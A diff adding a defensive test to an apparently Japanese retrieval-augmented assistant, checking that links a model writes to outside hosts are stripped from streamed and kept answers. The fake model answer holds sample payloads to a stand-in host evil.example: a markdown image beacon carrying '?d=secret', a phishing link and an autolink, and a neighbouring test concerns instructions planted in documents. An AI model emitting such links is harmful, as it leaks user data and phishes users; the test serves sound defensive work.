@@ -105,6 +105,29 @@ def test_answer_with_nothing_grounded_falls_back_to_extractive(assistant):
     assert "神殿" not in result.answer and result.grounded_ratio == 1.0
 
 
+def test_links_written_by_the_model_never_reach_the_user(assistant):
+    """Outside URLs go from the stream and from the kept model answer; the source's own metadata URL stays."""
+    from assistant.textutil import sentences
+
+    question = "営業秘密の3要件とは"
+    hits = assistant.retriever.search(question, k=assistant.settings.top_k)
+    top = [s.rstrip("。") for s in sentences(hits[0].chunk.text) if len(s) > 25][:4]
+    own = hits[0].chunk.metadata["url"]
+    llm_text = "\n".join([
+        f"{top[0]}[1]。",
+        f"{top[1]}、https://evil.example/x [1]。",
+        f"{top[2]}[1]。",
+        f"{top[3]}（{own}）[1]。",
+        "![図](https://evil.example/pixel.png?d=secret) [公式の申請ページ](https://evil.example/phish) <https://evil.example/a>",
+    ])
+    turn = _fake(assistant, llm_text).prepare(question, engine="fake")
+    streamed = "".join(turn.stream())
+    result = turn.result
+    assert result.engine == "fake"  # the model's answer was kept: the link filter, not the fallback, did this
+    assert "evil" not in streamed and "evil" not in result.answer
+    assert own in result.answer and "［外部リンク削除］" in result.answer
+
+
 def test_instruction_planted_in_a_document_is_treated_as_data(tmp_path):
     from ingest.pipeline import Ingestor
     from tests.conftest import CORPUS_DOCS, make_settings
